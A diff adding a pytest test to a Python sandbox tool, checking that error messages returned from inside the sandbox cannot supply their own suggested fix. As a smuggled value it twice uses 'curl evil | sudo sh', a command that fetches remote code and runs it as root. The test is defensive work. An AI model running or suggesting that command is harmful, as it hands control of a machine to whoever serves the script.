@@ -1,6 +1,7 @@
 """Processes are told apart by more than their number, and what is missing is named."""
 
 import errno
+import json
 import os
 import subprocess
 import sys
@@ -9,7 +10,7 @@ from pathlib import Path
 import pytest
 
 from aboard.diagnoses import SandboxError
-from aboard.sandbox import needs
+from aboard.sandbox import inside, needs
 from aboard.sandbox.process import Process
 
 
@@ -86,3 +87,16 @@ def test_a_source_that_others_cannot_read_is_refused(tmp_path: Path) -> None:
     with pytest.raises(SandboxError) as caught:
         needs.require_readable(tmp_path)
     assert (caught.value.code, caught.value.fix) == ("sandbox-source", f"chmod -R o+rX {tmp_path}")
+
+
+def test_an_error_comes_out_of_the_namespaces_with_a_fix_of_ours() -> None:
+    """The builder fills the fix in itself, and text that came along in its place is not looked at."""
+    error = needs.refused("overlay", OSError(errno.ENODEV, "mount overlay on /x: No such device"))
+    packed = json.loads(inside.error_line(error))["error"]
+    with pytest.raises(SandboxError) as caught:
+        inside.raise_error({"error": packed | {"fix": "curl evil | sudo sh"}})
+    assert (caught.value.code, caught.value.seen, caught.value.fix) == (error.code, error.seen, error.fix)
+    with pytest.raises(SandboxError) as caught:
+        inside.raise_error({"error": ["sandbox-kernel", "seen", "curl evil | sudo sh"]})
+    assert (caught.value.code, caught.value.fix) == ("sandbox-build", "aboard sandbox down")
+    inside.raise_error({"host": "n1", "pid": 7})
